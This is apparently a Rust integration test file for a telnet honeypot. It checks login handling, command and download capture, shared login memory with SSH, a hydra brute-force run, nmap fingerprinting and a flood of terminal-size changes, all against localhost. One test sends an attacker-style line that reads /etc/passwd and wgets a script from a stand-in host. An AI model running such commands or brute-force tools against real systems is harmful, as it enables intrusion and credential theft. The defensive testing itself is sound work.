//! The telnet honeypot against the real `telnet` client (login refused then accepted,
//! commands, a download, the transcript capture), hydra's telnet module with a 20×20
//! list under a `never` policy, and `nmap -sV` naming it as it names Debian's telnetd.

mod shell_common;
mod tools;
use honeybee_proto::config::{LoginPolicy, ServiceKind, TelnetOptions};
use honeybee_proto::event::{AuthMethod, EventKind};
use shell_common::*;
use std::process::Stdio;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

fn telnet(login: LoginPolicy, delay_ms: u32) -> ServiceKind {
    ServiceKind::Telnet(TelnetOptions {
        login,
        auth_failure_delay_ms: delay_ms,
        hostname: "web-prod-02".into(),
        ..Default::default()
    })
}

/// A `telnet` client process whose output the test reads as it comes.
struct Client {
    child: tokio::process::Child,
    stdin: tokio::process::ChildStdin,
    stdout: tokio::process::ChildStdout,
    seen: Vec<u8>,
}

impl Client {
    fn spawn(port: u16) -> Client {
        let mut child = tokio::process::Command::new("telnet")
            .args(["127.0.0.1", &port.to_string()])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        let stdin = child.stdin.take().unwrap();
        let stdout = child.stdout.take().unwrap();
        Client {
            child,
            stdin,
            stdout,
            seen: Vec::new(),
        }
    }

    /// Reads until the output since `from` holds `what`; returns the new end.
    async fn wait_for(&mut self, from: usize, what: &str) -> usize {
        let deadline = tokio::time::Instant::now() + WAIT;
        loop {
            if let Some(i) =
                String::from_utf8_lossy(&self.seen[from.min(self.seen.len())..]).find(what)
            {
                return from + i + what.len();
            }
            let mut buf = [0u8; 4096];
            let n = tokio::time::timeout_at(deadline, self.stdout.read(&mut buf))
                .await
                .unwrap_or_else(|_| {
                    panic!("no {what:?} in {:?}", String::from_utf8_lossy(&self.seen))
                })
                .unwrap();
            assert!(
                n > 0,
                "client ended before {what:?}: {:?}",
                String::from_utf8_lossy(&self.seen)
            );
            self.seen.extend_from_slice(&buf[..n]);
        }
    }

    async fn send(&mut self, line: &str) {
        self.stdin
            .write_all(format!("{line}\n").as_bytes())
            .await
            .unwrap();
    }
}

#[tokio::test]
async fn telnet_client_logs_in_and_runs_commands() {
    tools::require(&["telnet"]);
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(
        dir.path(),
        &one("telnet", telnet(LoginPolicy::AfterAttempts(1), 50)),
    )
    .await;
    let mut c = Client::spawn(run.addr.port());
    // inetutils-telnetd's host line, then login's prompt.
    let at = c.wait_for(0, "\r\nLinux 6.1.0-").await;
    let at = c.wait_for(at, " (web-prod-02) (pts/0)\r\n\r\n").await;
    let at = c.wait_for(at, "web-prod-02 login: ").await;
    c.send("root").await;
    let at = c.wait_for(at, "Password: ").await;
    c.send("123456").await;
    let at = c.wait_for(at, "Login incorrect").await;
    let at = c.wait_for(at, "web-prod-02 login: ").await;
    c.send("root").await;
    let at = c.wait_for(at, "Password: ").await;
    c.send("admin").await;
    let at = c.wait_for(at, "root@web-prod-02:~# ").await;
    c.send("uname -a; cat /etc/passwd; wget http://x/y.sh")
        .await;
    let at = c
        .wait_for(at, "wget: unable to resolve host address 'x'")
        .await;
    let at = c.wait_for(at, "root@web-prod-02:~# ").await;
    c.send("cd /tmp && echo hi > f && cat f").await;
    let at = c.wait_for(at, "hi\r\n").await;
    c.send("exit").await;
    c.wait_for(at, "logout").await;
    let status = tokio::time::timeout(WAIT, c.child.wait())
        .await
        .expect("telnet ends")
        .unwrap();
    let shown = String::from_utf8_lossy(&c.seen).into_owned();
    // The password is never echoed.
    assert!(
        !shown.contains("123456") && !shown.contains("admin"),
        "{shown}"
    );
    assert!(shown.contains("Linux web-prod-02 6.1.0-"), "{shown}");
    let _ = status;

    let ev = until_disconnect(&mut run.rx).await;
    let a = attempts(&ev);
    assert_eq!(a.len(), 2, "{a:?}");
    assert!(
        a.iter()
            .all(|x| x.method == AuthMethod::Password && x.username == "root")
    );
    assert_eq!(
        (a[0].password.as_deref(), a[0].success),
        (Some("123456"), false)
    );
    assert_eq!(
        (a[1].password.as_deref(), a[1].success),
        (Some("admin"), true)
    );
    assert_eq!(
        commands(&ev),
        vec![
            "uname -a; cat /etc/passwd; wget http://x/y.sh",
            "cd /tmp && echo hi > f && cat f",
            "exit"
        ]
    );
    assert_eq!(
        downloads(&ev),
        vec![("http://x/y.sh".to_owned(), "wget".to_owned())]
    );
    assert!(
        ev.iter()
            .any(|e| matches!(&e.kind, EventKind::Capture { kind, .. } if kind == "transcript"))
    );
    let t = transcripts(&run.spool);
    assert_eq!(t.len(), 1);
    let cast = Cast::parse(&t[0].1);
    let input = cast.stream("i");
    assert!(
        input.contains("uname -a; cat /etc/passwd; wget http://x/y.sh"),
        "{input:?}"
    );
    let output = cast.stream("o");
    assert!(
        output.contains("root:x:0:0:root:/root:/bin/bash"),
        "{output}"
    );
    assert!(
        output.contains("wget: unable to resolve host address 'x'"),
        "{output}"
    );
    assert!(!output.contains("123456"));
    run.mgr.shutdown().await;
}

#[tokio::test]
async fn hydra_telnet_every_attempt_recorded_once() {
    tools::require(&["hydra"]);
    let dir = tempfile::tempdir().unwrap();
    // hydra 9.4 loses pairs on a connection that survives a failure: after "Login
    // incorrect" and a new "login:" it sends an empty name, takes the prompt that
    // answers it as the verdict on its next pair and never sends that password (half its
    // "tries" never reach any telnetd). A server that hangs up after each failure, as
    // many embedded telnetds do, gets every pair.
    let kind = ServiceKind::Telnet(TelnetOptions {
        login: LoginPolicy::Never,
        auth_failure_delay_ms: 10,
        max_auth_attempts: 1,
        ..Default::default()
    });
    let mut run = start(dir.path(), &one("telnet", kind)).await;
    let out = hydra(dir.path(), "telnet", run.addr.port()).await;
    tools::assert_hydra_finished(
        out.status.success(),
        &String::from_utf8_lossy(&out.stdout),
        &String::from_utf8_lossy(&out.stderr),
    );
    let (_, _, pairs) = hydra_lists(dir.path());
    // Every attempt hydra's connections caused: wait for all 400 (the last sessions may
    // still be ending on a loaded machine), then a little longer for any duplicate.
    let mut seen: Vec<(String, String)> = Vec::new();
    let mut connections = 0usize;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
    loop {
        let quiet = if seen.len() >= 400 { 2 } else { 10 };
        let wait = Duration::from_secs(quiet)
            .min(deadline.saturating_duration_since(tokio::time::Instant::now()));
        let Ok(Some(e)) = tokio::time::timeout(wait, run.rx.recv()).await else {
            break;
        };
        match e.kind {
            EventKind::Connect => connections += 1,
            EventKind::AuthAttempt(a) => {
                assert!(!a.success);
                seen.push((a.username, a.password.unwrap_or_default()));
            }
            _ => {}
        }
    }
    seen.sort();
    let mut want = pairs;
    want.sort();
    let missing: Vec<_> = want.iter().filter(|p| !seen.contains(p)).collect();
    let hydra_said = format!(
        "missing {missing:?}: {} {}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    // Every attempt that reached the server is recorded exactly once: each of hydra's
    // connections carried one pair (the server hangs up after one failure), so there are
    // as many attempts as connections, none twice, each one of hydra's pairs.
    assert_eq!(seen.len(), connections, "{hydra_said}");
    let mut distinct = seen.clone();
    distinct.dedup();
    assert_eq!(distinct.len(), seen.len(), "an attempt recorded twice");
    assert!(missing.len() + seen.len() == want.len(), "{hydra_said}");
    // hydra itself now and then never opens the connection for one pair under load (seen:
    // 399 connections for 400 pairs, with nothing refused or limited by the server), so
    // "all 400" would test hydra; nearly all must arrive.
    assert!(
        seen.len() >= 395,
        "{} of 400 arrived; {hydra_said}",
        seen.len()
    );
    // No login succeeded, so no transcript was kept.
    assert!(transcripts(&run.spool).is_empty());
    // Still serving: a new connection gets the option requests.
    let mut s = tokio::net::TcpStream::connect(run.addr).await.unwrap();
    let mut probe = [0u8; 21];
    tokio::time::timeout(WAIT, s.read_exact(&mut probe))
        .await
        .unwrap()
        .unwrap();
    // inetutils-telnetd's first requests (telnet_oracle compares them with the real one).
    assert_eq!(probe[..6], [255, 251, 37, 255, 251, 38]);
    run.mgr.shutdown().await;
}

/// nmap has no signature for inetutils-telnetd's opening (it names netkit's "Linux
/// telnetd"): for the real Debian 12 telnetd it says `telnet` and no product, and so it
/// must for ours.
#[tokio::test]
async fn nmap_names_telnet_as_for_the_real_telnetd() {
    tools::require(&["nmap"]);
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(dir.path(), &one("telnet", telnet(LoginPolicy::Never, 10))).await;
    let (name, product, _) = nmap_service(run.addr.port()).await;
    assert_eq!((name.as_str(), product.as_str()), ("telnet", ""));
    run.mgr.shutdown().await;
}

/// One `telnet` connection from `bind` as a one-try bot: `user`/`password` once; `true`
/// if it got a shell (then it leaves with `exit`).
async fn telnet_try(port: u16, bind: &str, user: &str, password: &str) -> bool {
    let mut child = tokio::process::Command::new("telnet")
        .args(["-b", bind, "127.0.0.1", &port.to_string()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut c = Client {
        stdin: child.stdin.take().unwrap(),
        stdout: child.stdout.take().unwrap(),
        child,
        seen: Vec::new(),
    };
    let at = c.wait_for(0, "web-prod-02 login: ").await;
    c.send(user).await;
    let at = c.wait_for(at, "Password: ").await;
    c.send(password).await;
    let deadline = tokio::time::Instant::now() + WAIT;
    let ok = loop {
        let text = String::from_utf8_lossy(&c.seen[at..]).into_owned();
        if text.contains("Login incorrect") {
            break false;
        }
        if text.contains(&format!("{user}@web-prod-02:")) {
            break true;
        }
        let mut buf = [0u8; 4096];
        let n = tokio::time::timeout_at(deadline, c.stdout.read(&mut buf))
            .await
            .unwrap_or_else(|_| panic!("no verdict in {text:?}"))
            .unwrap();
        assert!(n > 0, "client ended before a verdict: {text:?}");
        c.seen.extend_from_slice(&buf[..n]);
    };
    if ok {
        c.send("exit").await;
        c.wait_for(at, "logout").await;
    }
    let _ = tokio::time::timeout(WAIT, c.child.wait()).await;
    ok
}

/// Issue 12, login policy, over Telnet and SSH on one node: one try per connection, the
/// second connection from a source gets in under `after_attempts = 1`; its password
/// works again and no other does; 127.0.0.2 counts on its own; and SSH shares the
/// memory (the same accounts on the box imitated): the password that got in over Telnet
/// gets in over SSH, another is refused, and a failure over Telnet counts for SSH.
#[tokio::test]
async fn telnet_one_try_bots_and_ssh_share_the_login_memory() {
    tools::require(&["telnet", "ssh", "sshpass"]);
    let dir = tempfile::tempdir().unwrap();
    let mut config = one(
        "telnet",
        ServiceKind::Telnet(TelnetOptions {
            login: LoginPolicy::AfterAttempts(1),
            auth_failure_delay_ms: 10,
            max_auth_attempts: 1,
            hostname: "web-prod-02".into(),
            ..Default::default()
        }),
    );
    config.services.push(honeybee_proto::config::ServiceConfig {
        name: "ssh".into(),
        listen: "127.0.0.1:0".parse().unwrap(),
        enabled: true,
        kind: ServiceKind::Ssh(honeybee_proto::config::SshOptions {
            login: LoginPolicy::AfterAttempts(1),
            auth_failure_delay_ms: 10,
            ..Default::default()
        }),
    });
    let mut run = start(dir.path(), &config).await;
    let port = run.addr.port();
    let ssh_port = run.mgr.status()[1]
        .listen
        .parse::<std::net::SocketAddr>()
        .unwrap()
        .port();
    let (a, b) = ("127.0.0.1", "127.0.0.2");
    let mut verdicts = Vec::new();
    for (bind, user, pw, want) in [
        (a, "root", "123456", false),
        (a, "root", "hunter2", true),
        (a, "root", "hunter2", true),
        (a, "root", "123456", false),
        (b, "root", "hunter2", false),
    ] {
        let got = telnet_try(port, bind, user, pw).await;
        let ev = until_disconnect(&mut run.rx).await;
        assert_eq!(ev[0].src.unwrap().ip().to_string(), bind);
        let at = attempts(&ev);
        assert_eq!(at.len(), 1, "{at:?}");
        assert_eq!(at[0].success, got);
        verdicts.push(((bind, user, pw), got, want));
    }
    let ssh = async |bind: &str, pw: &str| {
        let out = tokio::time::timeout(
            WAIT,
            tokio::process::Command::new("sshpass")
                .args(["-p", pw, "ssh", "-b", bind, "-F", "/dev/null"])
                .args([
                    "-o",
                    "StrictHostKeyChecking=no",
                    "-o",
                    "UserKnownHostsFile=/dev/null",
                ])
                .args([
                    "-o",
                    "PreferredAuthentications=password",
                    "-o",
                    "PubkeyAuthentication=no",
                ])
                .args(["-o", "NumberOfPasswordPrompts=1", "-o", "LogLevel=ERROR"])
                .args(["-p", &ssh_port.to_string(), "root@127.0.0.1", "echo in"])
                .stdin(Stdio::null())
                .kill_on_drop(true)
                .output(),
        )
        .await
        .expect("ssh in time")
        .unwrap();
        out.status.success() && out.stdout == b"in\n"
    };
    for (bind, pw, want) in [
        (a, "hunter2", true),
        (a, "123456", false),
        // b's one failure was over Telnet; its next try, over SSH, is the one in.
        (b, "qwerty", true),
        (b, "hunter2", false),
    ] {
        let got = ssh(bind, pw).await;
        let _ = until_disconnect(&mut run.rx).await;
        verdicts.push(((bind, "root(ssh)", pw), got, want));
    }
    let wrong: Vec<_> = verdicts
        .iter()
        .filter(|(_, got, want)| got != want)
        .collect();
    assert!(wrong.is_empty(), "{verdicts:?}");
    run.mgr.shutdown().await;
}

/// A raw telnet peer with a window size: it agrees to NAWS (and sends its size) and
/// refuses every other option, as a bot's or a small client's telnet code does.
struct NawsPeer {
    s: tokio::net::TcpStream,
    /// The data, with the NUL telnetd sends after a bare CR dropped.
    seen: Vec<u8>,
    state: u32,
    size: (u16, u16),
    /// The connection ended.
    closed: bool,
}

/// IAC SB NAWS width height IAC SE, 255s doubled.
fn naws(w: u16, h: u16) -> Vec<u8> {
    let mut v = vec![255, 250, 31];
    for b in [w.to_be_bytes(), h.to_be_bytes()].concat() {
        v.push(b);
        if b == 255 {
            v.push(255);
        }
    }
    v.extend_from_slice(&[255, 240]);
    v
}

impl NawsPeer {
    async fn connect(addr: std::net::SocketAddr, size: (u16, u16)) -> NawsPeer {
        NawsPeer {
            s: tokio::net::TcpStream::connect(addr).await.unwrap(),
            seen: Vec::new(),
            state: 0,
            size,
            closed: false,
        }
    }

    /// Reads once; `false` at the end of the connection.
    async fn read_some(&mut self, deadline: tokio::time::Instant) -> bool {
        let mut buf = [0u8; 8192];
        let n = tokio::time::timeout_at(deadline, self.s.read(&mut buf))
            .await
            .unwrap_or_else(|_| panic!("stalled: {:?}", String::from_utf8_lossy(&self.seen)))
            .unwrap_or(0);
        if n == 0 {
            self.closed = true;
            return false;
        }
        let replies = self.absorb(&buf[..n]);
        if !replies.is_empty() {
            let _ = self.s.write_all(&replies).await;
        }
        true
    }

    /// Reads until the data since `from` holds `what`; returns the new end.
    async fn wait_for(&mut self, from: usize, what: &[u8]) -> usize {
        let deadline = tokio::time::Instant::now() + WAIT;
        loop {
            let hay = &self.seen[from.min(self.seen.len())..];
            if let Some(i) = hay.windows(what.len()).position(|w| w == what) {
                return from + i + what.len();
            }
            assert!(
                self.read_some(deadline).await,
                "closed before {:?}: {:?}",
                String::from_utf8_lossy(what),
                String::from_utf8_lossy(&self.seen)
            );
        }
    }

    fn absorb(&mut self, data: &[u8]) -> Vec<u8> {
        const IAC: u8 = 255;
        let mut replies = Vec::new();
        for &b in data {
            match (self.state, b) {
                (0, IAC) => self.state = 1,
                (0, 0) if self.seen.last() == Some(&b'\r') => {}
                (0, b) => self.seen.push(b),
                (1, IAC) => {
                    self.seen.push(IAC);
                    self.state = 0;
                }
                (1, 250) => self.state = 3,
                (1, c @ 251..=254) => self.state = 10 + u32::from(c - 251),
                (1, _) => self.state = 0,
                (3, IAC) => self.state = 4,
                (3, _) => {}
                (4, 240) => self.state = 0,
                (4, _) => self.state = 3,
                (12, 31) => {
                    // DO NAWS: WILL, and the size.
                    replies.extend_from_slice(&[IAC, 251, 31]);
                    replies.extend(naws(self.size.0, self.size.1));
                    self.state = 0;
                }
                (s, opt) => {
                    let verb = if s <= 11 { 254 } else { 252 };
                    if s == 10 || s == 12 {
                        replies.extend_from_slice(&[IAC, verb, opt]);
                    }
                    self.state = 0;
                }
            }
        }
        replies
    }

    async fn send(&mut self, data: &[u8]) {
        self.s.write_all(data).await.unwrap();
    }

    /// Logs in as root; returns where the prompt ends and the prompt.
    async fn login(&mut self) -> (usize, Vec<u8>) {
        let at = self.wait_for(0, b"web-prod-02 login: ").await;
        self.send(b"root\r\n").await;
        let at = self.wait_for(at, b"Password: ").await;
        self.send(b"hunter2\r\n").await;
        let at = self.wait_for(at, b"root@web-prod-02:~# ").await;
        (at, b"root@web-prod-02:~# ".to_vec())
    }
}

/// Issue 12: the shell's line editor wraps at the width the client gave in NAWS, and a
/// NAWS change while a line is edited redraws it as bash does on SIGWINCH (the bytes
/// are real bash 5.2's; the line editor's oracle compares them in a pty).
#[tokio::test]
async fn the_line_editor_follows_the_naws_width() {
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(dir.path(), &one("telnet", telnet(LoginPolicy::Always, 10))).await;
    let mut p = NawsPeer::connect(run.addr, (40, 24)).await;
    let (at, prompt) = p.login().await;
    // Wrapped at 40 columns, not at 80.
    let first = 40 - prompt.len();
    let line = vec![b'y'; first + 10];
    p.send(&line).await;
    let want = [vec![b'y'; first], b" \r".to_vec(), vec![b'y'; 10]].concat();
    let at = p.wait_for(at, &want).await;
    // 60 columns: both screen lines cleared from the bottom up, the line on one.
    p.send(&naws(60, 24)).await;
    let redraw = [&b"\r\x1b[K\r\x1b[A\x1b[K\r"[..], &prompt, &line].concat();
    let end = p.wait_for(at, &redraw).await;
    assert_eq!(&p.seen[at..end], &redraw[..]);
    // The same size again writes nothing: the next key's echo comes alone.
    p.send(&naws(60, 24)).await;
    p.send(b"Z").await;
    let next = p.wait_for(end, b"Z").await;
    assert_eq!(&p.seen[end..next], b"Z");
    // Absurd sizes: nothing breaks, the line still runs.
    for (w, h) in [(0, 0), (65535, 65535), (1, 1), (80, 24)] {
        p.send(&naws(w, h)).await;
    }
    p.send(b"\r\n").await;
    p.wait_for(next, b"command not found").await;
    p.send(b"exit\r\n").await;
    let _ = until_disconnect(&mut run.rx).await;
    run.mgr.shutdown().await;
}

/// A flood of NAWS changes with a long line at the prompt: one redraw each, all of it
/// charged against the session's output cap (2 MiB), which ends the session.
#[tokio::test]
async fn a_flood_of_naws_changes_ends_at_the_output_cap() {
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(dir.path(), &one("telnet", telnet(LoginPolicy::Always, 10))).await;
    let mut p = NawsPeer::connect(run.addr, (80, 24)).await;
    let (at, _) = p.login().await;
    p.send(&[b'q'; 1000]).await;
    p.wait_for(at, &[b'q'; 50]).await;
    // 4000 changes between 20 and 21 columns, each redraw about 1.5 KB: 6 MB if none
    // were capped.
    let mut flood = Vec::new();
    for i in 0..4000u16 {
        flood.extend(naws(20 + i % 2, 24));
    }
    let _ = p.s.write_all(&flood).await;
    let deadline = tokio::time::Instant::now() + WAIT;
    while p.read_some(deadline).await {
        assert!(p.seen.len() < 3 << 20, "{} bytes", p.seen.len());
    }
    assert!(p.closed);
    let total = p.seen.len();
    assert!(total <= (2 << 20) + 64 * 1024, "{total}");
    let ev = until_disconnect(&mut run.rx).await;
    let shown = format!("{ev:?}");
    assert!(shown.contains("shell_output"), "{shown}");
    run.mgr.shutdown().await;
}
